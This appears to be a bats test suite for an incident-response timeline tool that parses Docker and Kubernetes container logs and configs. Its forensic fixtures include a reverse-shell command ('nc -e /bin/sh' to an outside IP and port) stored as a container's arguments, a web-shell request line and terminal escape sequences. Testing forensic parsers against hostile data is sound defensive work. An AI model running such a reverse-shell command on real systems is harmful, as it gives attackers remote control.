#!/usr/bin/env bats
# irt timeline: Docker json-file logs, CRI (containerd, Kubernetes) logs
# and Docker container configs, with fixtures the tests write.

load helper

ID=aaaa000000000000000000000000000000000000000000000000000000000001

setup() { setup_common; }
teardown() { teardown_common; }

# The events of stdin (irt JSONL) as JSON lines, their fields beside
# time, type and message.
events() {
	python3 -c '
import json, sys
for line in sys.stdin:
    o = json.loads(line)
    f = o.pop("fields", None) or {}
    assert not set(f) & set(o), (f, o)
    o.update(f)
    print(json.dumps(o, sort_keys=True))
'
}

docker_fixture() {
	D=$TMP/var/lib/docker/containers/$ID
	mkdir -p "$D"
	{
		printf '{"log":"uid=0(root) gid=0(root)\\n","stream":"stdout","time":"2024-05-01T10:00:02.123456789Z"}\n'
		# a line Docker split in two (over 16 KiB): one event, at
		# the time of its first part
		printf '{"log":"first half ","stream":"stderr","time":"2024-05-01T10:00:03Z"}\n'
		printf '{"log":"interleaved\\n","stream":"stdout","time":"2024-05-01T10:00:03.5Z"}\n'
		printf '{"log":"second half\\n","stream":"stderr","time":"2024-05-01T10:00:04Z"}\n'
		printf '{"log":"\\u001b]0;owned\\u0007 \\u0000 nul\\n","stream":"stdout","time":"2024-05-01T10:00:05+02:00"}\n'
		printf 'not json at all\n'
		printf '{"log":"x\\n","stream":"stdout","time":"9999-01-01T00:00:00Z"}\n'
		printf '{"log":"x\\n","stream":"stdout"}\n'
		printf '{"log":"x\\n","stream":"stdout","time":"1714557600"}\n'
		printf '{"log":"tail without newline","stream":"stdout","time":"2024-05-01T10:00:06Z"}\n'
	} >"$D/$ID-json.log"
}

@test "docker: json-file logs, split lines joined, the container id from the name" {
	docker_fixture
	run irt timeline --format jsonl "$D/$ID-json.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" "$ID-json.log:6: not a Docker json-file line, skipped"
	assert_contains "$output" "$ID-json.log:7: time '9999-01-01T00:00:00Z' out of range"
	assert_contains "$output" "$ID-json.log:8: no time in Docker log line, skipped"
	assert_contains "$output" "$ID-json.log:9: bad time in Docker log line, skipped"
	assert_contains "$output" '5 events from 1 sources, 5 records written, 4 warnings'
	irt timeline -q --format jsonl "$D/$ID-json.log" | events >"$TMP/ev"
	python3 - "$TMP/ev" "$ID" "$D/$ID-json.log" <<'EOF'
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
msgs = [(e["time"], e["stream"], e["message"]) for e in ev]
assert msgs == [
    ("2024-05-01T08:00:05Z", "stdout", "\x1b]0;owned\x07 \x00 nul"),
    ("2024-05-01T10:00:02.123456789Z", "stdout", "uid=0(root) gid=0(root)"),
    ("2024-05-01T10:00:03Z", "stderr", "first half second half"),
    ("2024-05-01T10:00:03.500Z", "stdout", "interleaved"),
    ("2024-05-01T10:00:06Z", "stdout", "tail without newline"),
], msgs
for e in ev:
    assert e["container_id"] == sys.argv[2], e
    assert e["type"] == "docker:json:container:log", e
    assert e["source"] == "docker:" + sys.argv[3], e
EOF
	# known by content too, whatever its name
	cp "$D/$ID-json.log" "$TMP/renamed"
	run irt timeline --format jsonl "$TMP/renamed"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"source":"docker:'
	# a log line that is an access log line is still Docker's
	printf '{"log":"1.2.3.4 - - [01/May/2024:10:00:00 +0000] \\"GET / HTTP/1.1\\" 200 1\\n","stream":"stdout","time":"2024-05-01T10:00:00Z"}\n' >"$TMP/nginx"
	run irt timeline --format jsonl "$TMP/nginx"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"source":"docker:'
}

@test "cri: pod logs, partial lines joined, pod, namespace and container from the path" {
	P=$TMP/var/log/pods/prod_web-7d4f_0f6c2a1e-1111-2222-3333-444455556666/nginx
	mkdir -p "$P" "$TMP/var/log/containers"
	{
		printf '2024-05-01T10:00:00.123456789Z stdout F 1.2.3.4 - - [01/May/2024:10:00:00 +0000] "GET /shell.php HTTP/1.1" 200 1\n'
		printf '2024-05-01T10:00:01Z stderr P part one, \n'
		printf '2024-05-01T10:00:01.5Z stdout F between\n'
		printf '2024-05-01T10:00:02Z stderr P part two, \n'
		printf '2024-05-01T10:00:03Z stderr F end\n'
		printf '2024-05-01T10:00:04+02:00 stdout F \033[31mred\n'
		printf '2024-05-01T10:00:05Z stdout F \n'
		printf 'garbage line\n'
		printf '2024-02-30T10:00:00Z stdout F impossible\n'
		printf '2024-05-01T10:00:06Z stdin F what\n'
		printf '2024-05-01T10:00:07Z stdout X what\n'
		printf '2024-05-01T10:00:08Z stdout P cut at the end'
	} >"$P/0.log"
	run irt timeline --format jsonl "$P/0.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" "0.log:8: not a CRI log line, skipped"
	assert_contains "$output" "0.log:9: invalid time '2024-02-30T10:00:00Z'"
	assert_contains "$output" "0.log:10: no stream (stdout, stderr) in CRI log line, skipped"
	assert_contains "$output" "0.log:11: no tag (F, P) in CRI log line, skipped"
	assert_contains "$output" '6 events from 1 sources, 6 records written, 4 warnings'
	irt timeline -q --format jsonl "$P/0.log" | events >"$TMP/ev"
	python3 - "$TMP/ev" <<'EOF'
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
got = [(e["time"], e["stream"], e["message"]) for e in ev]
assert got == [
    ("2024-05-01T08:00:04Z", "stdout", "\x1b[31mred"),
    ("2024-05-01T10:00:00.123456789Z", "stdout", '1.2.3.4 - - [01/May/2024:10:00:00 +0000] "GET /shell.php HTTP/1.1" 200 1'),
    ("2024-05-01T10:00:01Z", "stderr", "part one, part two, end"),
    ("2024-05-01T10:00:01.500Z", "stdout", "between"),
    ("2024-05-01T10:00:05Z", "stdout", ""),
    ("2024-05-01T10:00:08Z", "stdout", "cut at the end"),
], got
for e in ev:
    assert (e["namespace"], e["pod"], e["container"]) == ("prod", "web-7d4f", "nginx"), e
    assert e["type"] == "cri:container:log", e
EOF
	# the link of /var/log/containers gives the container id; content
	# detection knows a renamed file
	L="$TMP/var/log/containers/web-7d4f_prod_nginx-$ID.log"
	cp "$P/0.log" "$L"
	irt timeline -q --format jsonl "$L" | events | head -1 >"$TMP/one"
	python3 -c '
import json, sys
e = json.load(open(sys.argv[1]))
assert (e["pod"], e["namespace"], e["container"], e["container_id"]) == ("web-7d4f", "prod", "nginx", sys.argv[2]), e
' "$TMP/one" "$ID"
	cp "$P/0.log" "$TMP/renamed"
	run irt timeline --format jsonl "$TMP/renamed"
	assert_contains "$output" '"source":"cri:'
}

@test "container: config.v2.json gives created, started and finished events" {
	D=$TMP/var/lib/docker/containers/$ID
	mkdir -p "$D"
	printf '{"StreamConfig":{},"State":{"Running":false,"Pid":0,"ExitCode":137,"StartedAt":"2024-05-01T10:00:01.123456789Z","FinishedAt":"2024-05-01T11:00:00Z"},"ID":"%s","Created":"2024-05-01T10:00:00.5Z","Path":"/bin/sh","Args":["-c","nc -e /bin/sh 203.0.113.7 4444"],"Config":{"Image":"alpine:3.19"},"Name":"/escape"}' "$ID" >"$D/config.v2.json"
	run irt timeline --format jsonl "$D/config.v2.json"
	[ "$status" -eq 0 ]
	assert_contains "$output" '3 events from 1 sources, 3 records written, 0 warnings'
	irt timeline -q --format jsonl "$D/config.v2.json" | events >"$TMP/ev"
	python3 - "$TMP/ev" "$ID" <<'EOF'
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
got = [(e["time"], e["timestamp_desc"] if "timestamp_desc" in e else None, e["message"]) for e in ev]
assert [g[2] for g in got] == [
    "container created: escape image alpine:3.19",
    "container started: escape image alpine:3.19",
    "container finished (exit code 137): escape image alpine:3.19"], got
assert [g[0] for g in got] == ["2024-05-01T10:00:00.500Z", "2024-05-01T10:00:01.123456789Z", "2024-05-01T11:00:00Z"], got
for e in ev:
    assert e["type"] == "docker:json:container", e
    assert e["container_id"] == sys.argv[2] and e["container"] == "escape", e
    assert e["image"] == "alpine:3.19", e
    assert e["command"] == "/bin/sh -c nc -e /bin/sh 203.0.113.7 4444", e
assert ev[2]["exit_code"] == "137" and "exit_code" not in ev[0], ev
EOF
	# Timesketch's timestamp_desc tells the three apart
	irt timeline -q --format timesketch-jsonl "$D/config.v2.json" >"$TMP/ts"
	grep -q '"timestamp_desc":"Creation Time"' "$TMP/ts"
	grep -q '"timestamp_desc":"Start Time"' "$TMP/ts"
	grep -q '"timestamp_desc":"End Time"' "$TMP/ts"
	# never started: one event; hostile lines are warnings
	{
		printf '{"StreamConfig":{},"State":{"StartedAt":"0001-01-01T00:00:00Z","FinishedAt":"0001-01-01T00:00:00Z"},"ID":"new","Created":"2024-05-02T00:00:00Z"}\n'
		printf '{"StreamConfig":{},"ID":"bad","Created":"2024-13-01T00:00:00Z"}\n'
		python3 -c 'import sys; sys.stdout.write("[" * 100000 + "\n")'
		printf '[1,2]\n'
		printf '{"StreamConfig":{},"ID":"\xff\\u001b[2J","Created":"2024-05-03T00:00:00Z"}\n'
	} >"$TMP/config.v2.json"
	run irt timeline --format jsonl "$TMP/config.v2.json"
	[ "$status" -eq 0 ]
	assert_contains "$output" "config.v2.json:2: Created: invalid time '2024-13-01T00:00:00Z'"
	assert_contains "$output" "config.v2.json:3: not a Docker container config (one JSON object a line), skipped"
	assert_contains "$output" "config.v2.json:4: not a Docker container config (one JSON object a line), skipped"
	assert_contains "$output" '"container_id":"new"'
	assert_contains "$output" '"container_id":"\\xff\u001b[2J"'
	assert_contains "$output" '2 events from 1 sources, 2 records written, 3 warnings'
}

@test "an evidence archive's container logs and configs join the timeline" {
	ROOT=$TMP/root
	D=$ROOT/var/lib/docker/containers/$ID
	P=$ROOT/var/log/pods/prod_web_0f6c2a1e/nginx
	mkdir -p "$D" "$P" "$ROOT/etc"
	echo 'root:x:0:0::/root:/bin/sh' >"$ROOT/etc/passwd"
	echo fixture-host >"$ROOT/etc/hostname"
	printf '{"log":"from docker\\n","stream":"stdout","time":"2024-05-01T10:00:02Z"}\n' >"$D/$ID-json.log"
	printf '{"StreamConfig":{},"State":{"StartedAt":"2024-05-01T10:00:01Z"},"ID":"%s","Created":"2024-05-01T10:00:00Z","Name":"/c"}\n' "$ID" >"$D/config.v2.json"
	printf '2024-05-01T10:00:03Z stdout F from cri\n' >"$P/0.log"
	printf 'file /var/lib/docker/containers/**\nfile /var/log/**\n' >"$TMP/p.profile"
	run timeout 120 "$IRT" collect --root "$ROOT" --profile "$TMP/p.profile" -o "$TMP/e.tar.gz"
	[ "$status" -eq 0 ]
	irt timeline -q --format jsonl "$TMP/e.tar.gz" | events >"$TMP/ev"
	python3 - "$TMP/ev" "$ID" <<'EOF'
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
d = "/var/lib/docker/containers/%s/" % sys.argv[2]
got = {(e["type"], e["message"]): e for e in ev if e["type"] != "fs:stat"}
assert sorted(got) == [
    ("cri:container:log", "from cri"),
    ("docker:json:container", "container created: c"),
    ("docker:json:container", "container started: c"),
    ("docker:json:container:log", "from docker")], sorted(got)
e = got[("docker:json:container:log", "from docker")]
assert (e["path"], e["container_id"], e["stream"]) == (d + sys.argv[2] + "-json.log", sys.argv[2], "stdout"), e
e = got[("cri:container:log", "from cri")]
assert (e["path"], e["pod"], e["namespace"], e["container"]) == ("/var/log/pods/prod_web_0f6c2a1e/nginx/0.log", "web", "prod", "nginx"), e
e = got[("docker:json:container", "container started: c")]
assert (e["path"], e["container_id"], e["time"]) == (d + "config.v2.json", sys.argv[2], "2024-05-01T10:00:01Z"), e
EOF
}
